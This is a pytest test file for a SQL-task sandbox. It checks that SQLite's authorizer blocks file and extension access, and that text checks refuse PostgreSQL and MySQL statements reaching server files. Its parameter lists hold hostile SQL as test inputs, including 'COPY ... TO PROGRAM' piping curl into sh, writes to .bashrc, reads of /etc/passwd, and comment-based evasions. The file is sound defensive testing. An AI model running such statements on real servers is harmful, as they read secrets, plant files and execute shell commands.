"""What a sql task's statement may not reach: SQLite's authorizer and the text checks of other databases."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.pool import NullPool

from taskstreamd.builtin_tasks.sql import confine


@pytest.fixture
def engine(tmp_path: Path) -> sa.Engine:
    created = confine.confine(sa.create_engine(f"sqlite:///{tmp_path / 'w.sqlite'}", poolclass=NullPool))
    with created.begin() as conn:
        conn.exec_driver_sql("create table t (x integer)")
    return created


def _refusal(engine: sa.Engine, sql: str) -> str:
    confine.take_refusal()
    with (
        engine.connect() as conn,
        pytest.raises(sa.exc.DatabaseError, match=r"not authorized|authorization denied"),
    ):
        conn.exec_driver_sql(sql)
    refused = confine.take_refusal()
    assert refused is not None
    return str(refused)


def test_the_authorizer_refuses_files_and_code(engine: sa.Engine, tmp_path: Path) -> None:
    assert "VACUUM INTO" in _refusal(engine, f"vacuum into '{tmp_path / 'copy.sqlite'}'")
    assert "VACUUM INTO" in _refusal(engine, f"vacuum main into '{tmp_path}' || '/copy2.sqlite'")
    assert "ATTACH" in _refusal(engine, f"attach database '{tmp_path / 'other.sqlite'}' as other")
    assert "ATTACH" in _refusal(engine, "attach database ':memory:' as other")
    assert "DETACH" in _refusal(engine, "detach database main")
    assert "load_extension" in _refusal(engine, "select load_extension('/tmp/x.so')")
    assert "fts3_tokenizer" in _refusal(engine, "select fts3_tokenizer('simple')")
    for pragma in ("temp_store_directory = '/tmp'", "data_store_directory = '/tmp'", "writable_schema = 1"):
        assert "PRAGMA" in _refusal(engine, f"pragma {pragma}")
    assert "PRAGMA schema_version" in _refusal(engine, "pragma schema_version = 7")
    assert "PRAGMA soft_heap_limit" in _refusal(engine, "pragma soft_heap_limit = 1")
    assert "PRAGMA database_list" in _refusal(engine, "select file from pragma_database_list")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["w.sqlite"]  # no file was made


def test_the_authorizer_lets_the_rest_through(engine: sa.Engine) -> None:
    with engine.begin() as conn:
        conn.exec_driver_sql("insert into t values (1)")
        assert conn.exec_driver_sql("select count(*) from t").scalar() == 1
        assert [r[1] for r in conn.exec_driver_sql("pragma table_info(t)")] == ["x"]
        assert conn.exec_driver_sql("select name from pragma_table_info('t')").scalar() == "x"
        assert conn.exec_driver_sql("pragma schema_version").scalar_one() >= 1
        conn.exec_driver_sql("pragma foreign_keys = on")
    with engine.connect() as conn:
        conn.exec_driver_sql("vacuum")  # in place: the temporary database it attaches has no name
        assert [c["name"] for c in sa.inspect(conn).get_columns("t")] == ["x"]  # desc's inspector


@pytest.mark.parametrize(
    "sql",
    [
        "COPY t TO PROGRAM 'curl http://x | sh'",
        "copy (select 1) to '/var/lib/postgresql/.bashrc'",
        "copy t from E'/etc/passwd'",
        "copy (select ';') to $f$/tmp/x$f$",
        "copy t to/* a comment */program 'id'",
        "copy t to /* nested /* comment */ */ program 'id'",
        "copy t to -- a comment\n program 'id'",
        "select '\\' , '--'; copy t to/**/program 'x'",  # a backslash ends a standard string
        "select $$--$$; copy t to/**/program 'x'",
        "DO $$ BEGIN EXECUTE 'copy t to program ''id'''; END $$",
        "select lo_import('/etc/passwd')",
        "select pg_catalog.lo_export(1, '/tmp/x')",
        "select pg_read_file ('/etc/passwd')",
        "select \"pg_read_binary_file\"('/etc/passwd')",
        "select * from pg_ls_dir('.')",
        "LOAD 'plpython3u'",
        "select 1; load '$libdir/plugins/x'",
    ],
)
def test_postgresql_statements_that_reach_server_files_are_refused(sql: str) -> None:
    with pytest.raises(confine.Refused, match="not allowed in a sql task"):
        confine.refuse_text("postgresql", sql)


@pytest.mark.parametrize(
    "sql",
    [
        "select * from t into outfile '/tmp/x'",
        "select 'x' into/**/dumpfile '/tmp/x'",
        "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
        "select load_file('/etc/passwd')",
        "select '\\' # ' ; select load_file/**/('/etc/passwd')",
        "select 1--1\n; select load_file/**/('/x')",
    ],
)
def test_mysql_statements_that_reach_server_files_are_refused(sql: str) -> None:
    with pytest.raises(confine.Refused):
        confine.refuse_text("mysql", sql)


def test_ordinary_statements_pass_the_text_checks() -> None:
    for sql in (
        "select * from programs where copy_count > 1",
        "insert into notes values ('copy the file to the program folder')",
        "create table copy_of_t as select * from t",
        "select 1 # 2",  # PostgreSQL's xor, not a comment
        "select '--', x from t",
        "copy t to stdout",
    ):
        confine.refuse_text("postgresql", sql)
    confine.refuse_text("mysql", "select * from loaded_data")
    confine.refuse_text("sqlite", "vacuum into '/tmp/x'")  # SQLite's own authorizer decides there
